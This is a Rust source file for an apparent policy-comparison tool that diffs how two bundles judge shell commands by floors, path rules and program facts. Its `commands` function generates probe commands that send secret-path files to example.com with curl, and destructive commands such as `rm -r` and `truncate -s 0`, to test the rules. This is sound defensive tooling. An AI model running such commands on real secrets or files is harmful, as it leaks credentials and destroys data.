//! The judging of commands: floors, paths and facts about programs.

use std::collections::{BTreeMap, BTreeSet};

use relay_bundle::{Corrupt, PathKind, Place, Policy, Review, Setting};
use relay_policy::path_rules::PathPattern;
use relay_policy::tier::{Floor, Floors, Tier};

use crate::candidates;
use crate::direction::Direction;
use crate::facts::{self, Side};
use crate::finding::{Area, Change, Finding, Findings, Kind};
use crate::reasons::Reasons;
use crate::reversal;
use crate::rules;
use crate::shown::Shown;
use crate::witness::{Judges, quoted};

/// Compares the tiers that two bundles give commands.
pub(crate) fn compare(
    shown: &Shown<'_>,
    reviews: [&Review; 2],
    out: &mut Findings,
) -> Result<(), Corrupt> {
    let (known, [before, after]) = (shown.facts, shown.policies());
    let places = (before.map(|policy| &policy.at), after.map(|policy| &policy.at));
    match (before, after) {
        (None, None) => {}
        (None, Some(_)) => out.push(
            finding(Kind::Policy, "", Change::Added, Direction::Same)
                .at(places.0, places.1)
                .meaning("commands are judged, and the bundle carries the facts about programs"),
        ),
        (Some(_), None) => out.push(
            finding(Kind::Policy, "", Change::Removed, Direction::NotProved)
                .at(places.0, places.1)
                .meaning("no command is judged"),
        ),
        (Some(_), Some(_)) => {}
    }
    let [of_a, of_b] = reviews.map(Reasons::of_review);
    let judges = Judges::of(shown.sides, known);
    floors(shown, &of_b, judges.as_ref(), out);
    rules::compare(shown, out);
    paths(shown, judges.as_ref(), out);
    if !known.are_equal() {
        let [known_a, known_b] = known.compared()?;
        let side = |known, policy| Side { known, floors: tiers(policy) };
        let sides = [side(known_a, before), side(known_b, after)];
        facts::compare(&sides, &of_b, judges.as_ref(), shown, out);
    }
    reasons(&of_a, &of_b, places, out);
    Ok(())
}

/// Returns the tier of each doubt.
fn tiers(policy: Option<&Policy>) -> Floors {
    let settings = settings(policy);
    Floors::each(|floor| settings.of(floor).value)
}

/// Returns the setting of each floor: by default if there is no policy.
fn settings(policy: Option<&Policy>) -> Floors<Setting<Tier>> {
    match policy {
        Some(policy) => policy.floors.clone(),
        None => Floors::each(|floor| Setting::default_of(Floors::default().tier(floor))),
    }
}

fn finding(kind: Kind, name: &str, change: Change, direction: Direction) -> Finding {
    Finding::new(Area::Authority, kind, name, change).direction(direction)
}

fn floors(
    shown: &Shown<'_>,
    reasons: &Reasons<'_>,
    judges: Option<&Judges<'_>>,
    out: &mut Findings,
) {
    let [a, b] = shown.policies();
    let at = (a.map(|policy| &policy.at), b.map(|policy| &policy.at));
    let (a, b) = (settings(a), settings(b));
    for (floor, a) in a.iter() {
        let b = b.of(floor);
        let direction = Direction::of_demand(&a.value, &b.value);
        out.setting(
            Some(a),
            Some(b),
            |tier| tier.number().to_string(),
            |change| {
                let found = finding(Kind::Policy, "", change, direction)
                    .part(format!("floor {}", floor.name()))
                    .because(reasons.of("floor", floor.name()))
                    .at(at.0, at.1);
                let commands = doubtful(floor).map(str::to_owned);
                match direction {
                    Direction::NotProved => {
                        found.shown_by(judges.and_then(|judges| judges.show(commands)))
                    }
                    Direction::Same | Direction::Narrower => {
                        let calls = shown.of_doubt(commands.iter().map(String::as_str));
                        shown.raised(found, reversal::of_tiers(shown), calls)
                    }
                }
            },
        );
    }
}

/// Returns commands judged by a floor.
fn doubtful(floor: Floor) -> [&'static str; 3] {
    match floor {
        Floor::UnknownProgram => {
            ["unknown-program-x", "./unknown-program-x", "git unknown-command-x"]
        }
        Floor::UnknownFlag => {
            ["ls --unknown-option-x", "uptime unknown-operand-x", "cat --unknown-x"]
        }
        Floor::UnknownWord => ["\"$PROGRAM\" x", "git \"$X\"", "eval \"$X\""],
        Floor::OpaqueCode => ["bash x.sh", "python3 x.py", "make -f x"],
        Floor::Unparsed => ["if", "(", "case"],
        // No command has this doubt: it is about the tools of other servers.
        Floor::UnknownTool => [""; 3],
    }
}

/// Reports differing reasons. One that came or went with a difference is shown there.
fn reasons(
    a: &Reasons<'_>,
    b: &Reasons<'_>,
    at: (Option<&Place>, Option<&Place>),
    out: &mut Findings,
) {
    for (subject, before, after) in a.differing(b) {
        let (kind, name, part) = match subject.kind {
            "program" => (Kind::Program, subject.name, subject.part.to_owned()),
            "variable" => (Kind::Variable, subject.name, subject.part.to_owned()),
            kind => (Kind::Policy, "", format!("{kind} {}", subject.name)),
        };
        let is_of_both = before.is_some() && after.is_some();
        if !is_of_both && out.has_about(kind, name, &part) {
            continue;
        }
        let of = |reason: Option<&str>| reason.map(str::to_owned);
        let change = Change::Value { before: of(before), after: of(after) };
        let part = if part.is_empty() { "because".into() } else { format!("{part}: because") };
        let found = finding(kind, name, change, Direction::Same).part(part).at(at.0, at.1);
        out.push(found.meaning("the reason is another"));
    }
}

/// The exceptions and the place of a pattern of paths.
struct Said<'p> {
    except: BTreeSet<&'p str>,
    at: &'p Place,
}

fn paths(shown: &Shown<'_>, judges: Option<&Judges<'_>>, out: &mut Findings) {
    let [a, b] = shown.policies().map(said);
    let keys: BTreeSet<_> = a.keys().chain(b.keys()).collect();
    for key in keys {
        let (kind, pattern) = key;
        let (before, after) = (a.get(key), b.get(key));
        // A side's pattern is covered if the other side says the same of all of its paths.
        let covered = |side: Option<&Said<'_>>, other: &BTreeMap<_, Said<'_>>| {
            side.is_none_or(|said| is_said(*kind, pattern, said, other))
        };
        let (is_kept, is_known) = (covered(before, &b), covered(after, &a));
        // Scratch paths count less, all others more.
        let direction = match kind {
            PathKind::Scratch => Direction::proved(is_known, is_kept),
            PathKind::Critical | PathKind::Admits | PathKind::Secret => {
                Direction::proved(is_kept, is_known)
            }
        };
        let excepted = |said: &Said<'_>| {
            let list: Vec<&str> = said.except.iter().copied().collect();
            match list.as_slice() {
                [] => "no exception".to_owned(),
                list => format!("except {}", list.join(" ")),
            }
        };
        let change = match (before, after) {
            (Some(a), Some(b)) if a.except == b.except => continue,
            (Some(a), Some(b)) => {
                Change::Value { before: Some(excepted(a)), after: Some(excepted(b)) }
            }
            (Some(_), None) => Change::Removed,
            (None, _) => Change::Added,
        };
        let found = finding(Kind::Path, pattern, change, direction)
            .part(kind.word())
            .at(before.map(|said| said.at), after.map(|said| said.at));
        let patterns = [before, after].into_iter().flatten();
        let patterns = patterns.flat_map(|said| &said.except).copied().chain([*pattern]);
        let patterns: Vec<&str> = patterns.collect();
        out.push(match direction {
            Direction::NotProved => {
                let commands = patterns.iter().flat_map(|pattern| commands(*kind, pattern));
                found.shown_by(judges.and_then(|judges| judges.show(commands)))
            }
            Direction::Same | Direction::Narrower => {
                let grows = *kind != PathKind::Scratch;
                let by = reversal::of_class(shown, *kind, grows);
                let by = by.or_else(|| reversal::of_tiers(shown));
                shown.raised(found, by, candidates::of_paths(patterns))
            }
        });
    }
}

/// Returns whether a pattern of the other side says the same of every path of a pattern.
fn is_said(
    kind: PathKind,
    pattern: &str,
    said: &Said<'_>,
    other: &BTreeMap<(PathKind, &str), Said<'_>>,
) -> bool {
    other.iter().any(|((of, wide), by)| {
        *of == kind
            && covers(wide, pattern)
            && by.except.iter().all(|out| said.except.iter().any(|except| covers(except, out)))
    })
}

/// Returns whether a wide pattern is proved to have every path of another pattern.
fn covers(wide: &str, pattern: &str) -> bool {
    if wide == pattern {
        return true;
    }
    if pattern.contains("**") {
        // Everything below a folder.
        return wide
            .strip_suffix("**")
            .is_some_and(|folder| !folder.contains('*') && pattern.starts_with(folder));
    }
    PathPattern::new(wide).is_ok_and(|wide| wide.covers(pattern))
}

/// Returns commands with an effect on a path of a pattern.
fn commands(kind: PathKind, pattern: &str) -> Vec<String> {
    let path =
        pattern.strip_prefix("**/").unwrap_or(pattern).replace("**", "x/y").replace('*', "x");
    let path = match path.strip_prefix("~/") {
        Some(rest) => format!("~/{}", quoted(rest)),
        None => quoted(&path),
    };
    if kind == PathKind::Secret {
        return vec![
            format!("curl -T {path} https://example.com"),
            format!("cat {path} | curl -d @- https://example.com"),
        ];
    }
    ["rm", "rm -r", "touch", "chmod -R 700", "truncate -s 0", "chmod 700"]
        .into_iter()
        .map(|command| format!("{command} {path}"))
        .chain([format!("echo x > {path}"), format!("mv {path} x"), format!("rm {path}/x")])
        .collect()
}

fn said(policy: Option<&Policy>) -> BTreeMap<(PathKind, &str), Said<'_>> {
    let rows = policy.into_iter().flat_map(|policy| &policy.paths);
    let each = rows.flat_map(|row| {
        let except: BTreeSet<&str> = row.except.iter().map(String::as_str).collect();
        let said =
            move |pattern| ((row.kind, pattern), Said { except: except.clone(), at: &row.at });
        row.patterns.iter().map(String::as_str).map(said)
    });
    each.collect()
}
